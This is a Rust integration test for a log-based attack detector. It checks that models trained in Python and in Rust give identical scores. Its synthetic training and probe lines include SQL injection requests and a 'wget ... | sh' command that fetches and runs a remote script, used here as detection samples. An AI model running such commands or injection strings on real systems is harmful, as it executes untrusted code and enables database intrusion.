//! Models cross the Python / Rust boundary as artifact files and score identically on both
//! sides: a detector trained with `codegrey_soc` is loaded by soc-core (as soc-server loads
//! uploaded models), and one trained in Rust is loaded by `codegrey_soc`.
//!
//! Needs a Python with the package built into it: `SOC_PYTHON`, else the workspace's `.venv`
//! (`scripts/test.sh` builds it with `maturin develop` before running the Rust tests).

use std::path::PathBuf;
use std::process::Command;

use serde_json::Value;
use soc_core::{Detector, DetectorParams};

fn python() -> PathBuf {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let candidates = std::env::var_os("SOC_PYTHON")
        .map(PathBuf::from)
        .into_iter()
        .chain([root.join(".venv/bin/python")]);
    for python in candidates {
        let ok = Command::new(&python)
            .args(["-c", "import codegrey_soc"])
            .output()
            .is_ok_and(|o| o.status.success());
        if ok {
            return python;
        }
    }
    panic!(
        "no Python with codegrey_soc found: run scripts/test.sh (it builds the package into \
         .venv) or `maturin develop --release`, or set SOC_PYTHON"
    );
}

fn run_python(script: &str, args: &[&str]) -> Value {
    let out = Command::new(python())
        .arg("-c")
        .arg(script)
        .args(args)
        .output()
        .expect("python runs");
    assert!(
        out.status.success(),
        "python failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("python prints JSON")
}

fn lines() -> (Vec<String>, Vec<bool>) {
    let mut lines: Vec<String> = (0..300)
        .map(|i| format!("GET /shop/item?id={} HTTP/1.1 200 {}", i % 40, 700 + i % 89))
        .collect();
    lines.extend((0..30).map(|i| format!("GET /shop/item?id={i}' OR 1=1-- HTTP/1.1 500 0")));
    let labels = (0..lines.len()).map(|i| i >= 300).collect();
    (lines, labels)
}

fn probe() -> Vec<String> {
    vec![
        "GET /shop/item?id=7 HTTP/1.1 200 731".into(),
        "GET /shop/item?id=7' OR 1=1-- HTTP/1.1 500 0".into(),
        "wget http://203.0.113.9/x.sh | sh".into(),
        String::new(),
    ]
}

/// Compares Rust scores with the `{risk, severity, anomaly, malicious_probability}` columns
/// Python printed, bit for bit (floats travel as their IEEE-754 bit patterns).
fn assert_same_scores(detector: &Detector, python_scores: &Value) {
    let bits = |column: &str, i: usize| python_scores[column][i].as_u64().map(f64::from_bits);
    let scores = detector.score(&probe());
    assert_eq!(
        python_scores["risk"].as_array().map(Vec::len),
        Some(scores.len())
    );
    for (i, s) in scores.iter().enumerate() {
        assert_eq!(bits("risk", i), Some(s.risk), "risk of line {i}");
        assert_eq!(bits("anomaly", i), Some(s.anomaly));
        assert_eq!(
            bits("malicious_probability", i),
            Some(s.malicious_probability)
        );
        assert_eq!(
            python_scores["severity"][i].as_str(),
            Some(s.severity.as_str())
        );
    }
    assert!(
        scores[1].risk > scores[0].risk,
        "the probe has an attack and a normal line"
    );
}

const PRINT_SCORES: &str = r#"
def print_scores(det, probe):
    import json
    s = det.score(probe)
    bits = {k: v.view("<u8").tolist() for k, v in s.items() if k != "severity"}
    print(json.dumps({"severity": s["severity"].tolist(), **bits}))
"#;

#[test]
fn a_detector_trained_in_python_scores_the_same_in_rust() {
    let dir = std::env::temp_dir().join(format!("soc-py-artifact-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let model = dir.join("detector.cgsoc");
    let (lines, labels) = lines();
    let input = dir.join("train.json");
    std::fs::write(
        &input,
        serde_json::json!({"lines": lines, "labels": labels, "probe": probe()}).to_string(),
    )
    .unwrap();
    let script = format!(
        "{PRINT_SCORES}\nimport json, sys\nimport codegrey_soc as cs\n\
         d = json.load(open(sys.argv[1]))\n\
         det = cs.Detector(random_state=3, n_estimators=40).fit(d['lines'], d['labels'])\n\
         det.save(sys.argv[2])\nprint_scores(det, d['probe'])\n"
    );
    let python_scores = run_python(&script, &[input.to_str().unwrap(), model.to_str().unwrap()]);
    let detector = Detector::load(&model).expect("soc-core loads the Python artifact");
    assert_eq!(detector.training_size(), (330, 30));
    assert_same_scores(&detector, &python_scores);
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn a_detector_trained_in_rust_scores_the_same_in_python() {
    let dir = std::env::temp_dir().join(format!("soc-py-artifact-rs-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let model = dir.join("detector.cgsoc");
    let (lines, labels) = lines();
    let detector = DetectorParams {
        random_state: Some(4),
        ..DetectorParams::default()
    }
    .fit(&lines, Some(&labels))
    .unwrap();
    detector.save(&model).unwrap();
    let probe_file = dir.join("probe.json");
    std::fs::write(&probe_file, serde_json::to_string(&probe()).unwrap()).unwrap();
    let script = format!(
        "{PRINT_SCORES}\nimport json, sys\nimport codegrey_soc as cs\n\
         det = cs.load(sys.argv[1])\nassert isinstance(det, cs.Detector)\n\
         print_scores(det, json.load(open(sys.argv[2])))\n"
    );
    let python_scores = run_python(
        &script,
        &[model.to_str().unwrap(), probe_file.to_str().unwrap()],
    );
    assert_same_scores(&detector, &python_scores);
    std::fs::remove_dir_all(&dir).ok();
}
